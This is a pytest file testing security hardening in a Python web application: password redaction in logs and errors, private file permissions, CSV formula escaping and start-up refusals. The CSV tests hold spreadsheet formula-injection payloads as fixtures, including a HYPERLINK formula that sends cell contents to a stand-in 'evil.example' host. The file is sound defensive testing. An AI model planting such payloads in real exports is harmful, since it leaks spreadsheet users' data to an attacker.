"""Issue 12 §6/§8 without a running web server: password redaction, owner-only data, CSV formula
cells, the start-up refusals (port in use, unsupported database URL)."""

from __future__ import annotations

import csv
import io
import logging
import socket
import stat
from pathlib import Path

import pytest
from sqlalchemy import Engine

from gaze import history
from gaze.catalog.oc4d_db import read_database
from gaze.config import SettingsError, load_settings
from gaze.csvrow import spreadsheet_safe
from gaze.export import CSV_HEADER, csv_rows
from gaze.hardening import RedactingFormatter, port_in_use, private_dir, private_sqlite_file, redact
from gaze.history import Filters
from gaze.logs.format import format_session_line
from gaze.startup import open_database
from tests.test_config import _run_main
from tests.test_history import IMPORT, insert, rec

SECRET = "hunter2-Secret"

# ---------------------------------------------------------------- redaction


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"postgresql://gaze:{SECRET}@db:5432/gaze", "postgresql://gaze:***@db:5432/gaze"),
        (f"postgresql+psycopg://gaze:{SECRET}@db/gaze?sslmode=require", "postgresql+psycopg://gaze:***@db/gaze"),
        (f"cannot use database mysql://root:{SECRET}@10.0.0.5/x (boom)", "mysql://root:***@10.0.0.5/x (boom)"),
        (f"postgresql://u:p@{SECRET}@db/gaze", "postgresql://u:***@db/gaze"),  # a raw @ in the password
        (f"Could not parse URL from string 'postgresql://u:{SECRET}@h/d'", "'postgresql://u:***@h/d'"),
        (f"host=db user=gaze password={SECRET} dbname=gaze", "password=*** dbname=gaze"),
        (f"host=db password='{SECRET} x' dbname=gaze", "password=*** dbname=gaze"),
        (f"postgresql://u@h/d?password={SECRET}&sslmode=disable", "?password=***&sslmode=disable"),
        (f"PGPASSWORD={SECRET}", "PGPASSWORD=***"),
    ],
)
def test_redact_hides_passwords(text: str, shown: str) -> None:
    out = redact(text)
    assert SECRET not in out and "hunter2" not in out
    assert shown in out


@pytest.mark.parametrize(
    "text",
    [
        "postgresql://gaze@db/gaze",
        "sqlite:////var/lib/modulegaze/gaze.db",
        "http://oc4d.cdn:8080/modules/x/index.html?user=anna@example.com",
        "connection refused (is the server running on host 127.0.0.1, port 5432?)",
        "userId=anna@example.com|10.0.0.1",
    ],
)
def test_redact_leaves_other_text_alone(text: str) -> None:
    assert redact(text) == text


def test_log_lines_and_tracebacks_are_redacted() -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(RedactingFormatter("%(levelname)s %(message)s"))
    logger = logging.getLogger("test.redaction")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        logger.error("connecting to %s", f"postgresql://gaze:{SECRET}@db/gaze")
        try:
            raise RuntimeError(f"bad URL postgresql://gaze:{SECRET}@db/gaze")
        except RuntimeError:
            logger.exception("start-up failed")
    finally:
        logger.removeHandler(handler)
    text = stream.getvalue()
    assert SECRET not in text
    assert "connecting to postgresql://gaze:***@db/gaze" in text
    assert "Traceback" in text and "RuntimeError: bad URL postgresql://gaze:***@db/gaze" in text


def test_database_errors_do_not_show_the_password() -> None:
    url = f"postgresql://gaze:{SECRET}@127.0.0.1:1/gaze"  # nothing listens on port 1
    with pytest.raises(SettingsError) as info:
        open_database(url)
    assert SECRET not in str(info.value) and "MODULEGAZE_DATABASE_URL" in str(info.value)
    _, _, status = read_database(url, [])
    assert status.ok is False and SECRET not in (status.error or "")
    with pytest.raises(SettingsError) as bad:  # SQLAlchemy quotes the whole string it cannot parse
        open_database(f"postgresql://gaze:{SECRET}@db:notaport/gaze")
    assert SECRET not in str(bad.value)


# ---------------------------------------------------------------- owner-only data


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_data_dir_and_sqlite_file_are_created_private(tmp_path: Path) -> None:
    data = private_dir(tmp_path / "new" / "data")
    assert mode(data) == 0o700
    url = f"sqlite:///{data / 'gaze.db'}"
    open_database(url).dispose()
    assert mode(data / "gaze.db") == 0o600
    assert all(mode(p) == 0o600 for p in data.glob("gaze.db*")), [(p, oct(mode(p))) for p in data.iterdir()]


def test_looser_modes_are_tightened(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir(mode=0o755)
    data.chmod(0o755)
    db = data / "gaze.db"
    url = f"sqlite:///{db}"
    open_database(url).dispose()
    for path in data.glob("gaze.db*"):
        path.chmod(0o644)
    private_dir(data)
    private_sqlite_file(url)
    assert mode(data) == 0o700
    assert {p.name: mode(p) for p in data.glob("gaze.db*")} == {p.name: 0o600 for p in data.glob("gaze.db*")}


@pytest.mark.slow
def test_users_command_makes_the_readme_layout_private(tmp_path: Path) -> None:
    """The README's run keeps everything under ./data: a real `main.py` start-up check."""
    data = tmp_path / "data"
    data.mkdir(mode=0o777)
    data.chmod(0o777)
    result = _run_main(["users", "list"], {"MODULEGAZE_DATA_DIR": str(data)}, tmp_path)
    assert result.returncode == 0, result.stderr
    assert mode(data) == 0o700 and mode(data / "gaze.db") == 0o600


# ---------------------------------------------------------------- CSV for spreadsheets


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("anna@example.com", "anna@example.com"),
        ("cdn_math", "cdn_math"),
        (42, 42),
        (-5, -5),  # a number is not a formula
    ],
)
def test_spreadsheet_safe(cell: object, safe: object) -> None:
    assert spreadsheet_safe(cell) == safe


def test_csv_export_neutralises_formulas_the_log_line_does_not(engine: Engine) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    insert(engine, [rec(1_800_000_000_000, 60, "10.0.0.7", evil, "@cdn_math")], IMPORT)
    data = "".join(csv_rows(engine, history.Range(0, 2**62, "all"), Filters(), {"10.0.0.7": "+Tablet"}, lambda m: "-x"))
    header, row = list(csv.reader(io.StringIO(data, newline="")))
    assert tuple(header) == CSV_HEADER
    assert row[0] == "'" + evil and row[4] == "'-x" and row[6] == "'@cdn_math" and row[7] == "'+Tablet"
    assert row[5] == "60" and row[2] == "10.0.0.7"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
    # the session log line (what the upload scripts read) keeps the value as it was
    assert f"userId={evil}|10.0.0.7" in format_session_line(1_800_000_000_000, evil, "10.0.0.7", "@cdn_math", 60)


# ---------------------------------------------------------------- start-up refusals


@pytest.mark.slow
def test_port_in_use_is_one_line_and_creates_nothing(tmp_path: Path) -> None:
    with socket.socket() as holder:
        holder.bind(("0.0.0.0", 0))
        holder.listen()
        port = holder.getsockname()[1]
        assert port_in_use(port) is not None
        result = _run_main([], {"MODULEGAZE_PORT": str(port)}, tmp_path)
    assert result.returncode == 1, result.stderr
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and "MODULEGAZE_PORT" in lines[0] and f"port {port} is already in use" in lines[0]
    assert "Traceback" not in result.stderr and "first user" not in result.stdout + result.stderr
    assert not (tmp_path / "data").exists() and not (tmp_path / "logs").exists()  # no database, no admin
    assert port_in_use(port) is None


@pytest.mark.slow
def test_unsupported_database_url_exits_2(tmp_path: Path) -> None:
    result = _run_main([], {"MODULEGAZE_DATABASE_URL": f"mysql://root:{SECRET}@127.0.0.1/gaze"}, tmp_path)
    assert result.returncode == 2, result.stderr
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("modulegaze: MODULEGAZE_DATABASE_URL: "), result.stderr
    assert "unsupported database URL" in lines[0] and "mysql://root:***@127.0.0.1/gaze" in lines[0]
    assert SECRET not in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "data").exists()


@pytest.mark.usefixtures("clean_env")
@pytest.mark.parametrize("url", ["foo", "sqlite://", "sqlite:///:memory:", "oracle+cx://u@h/d", "postgresql", "mysql:"])
def test_unsupported_database_urls_are_bad_settings(monkeypatch: pytest.MonkeyPatch, url: str) -> None:
    monkeypatch.setenv("MODULEGAZE_DATABASE_URL", url)
    with pytest.raises(SettingsError) as info:
        load_settings()
    assert str(info.value).startswith("MODULEGAZE_DATABASE_URL: ") and "\n" not in str(info.value)


@pytest.mark.usefixtures("clean_env")
@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("sqlite:////var/lib/modulegaze/gaze.db", "sqlite:////var/lib/modulegaze/gaze.db"),
        ("postgresql://gaze@db/gaze", "postgresql://gaze@db/gaze"),
        ("postgresql+psycopg://gaze@db/gaze", "postgresql+psycopg://gaze@db/gaze"),
        ("postgres://gaze@db/gaze", "postgresql://gaze@db/gaze"),
    ],
)
def test_supported_database_urls(monkeypatch: pytest.MonkeyPatch, url: str, kept: str) -> None:
    monkeypatch.setenv("MODULEGAZE_DATABASE_URL", url)
    assert load_settings().database_url == kept


def test_a_shared_folder_is_never_tightened(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)  # like /tmp: a data directory there must not lock everybody else out
    private_dir(shared)
    assert mode(shared) == 0o1777
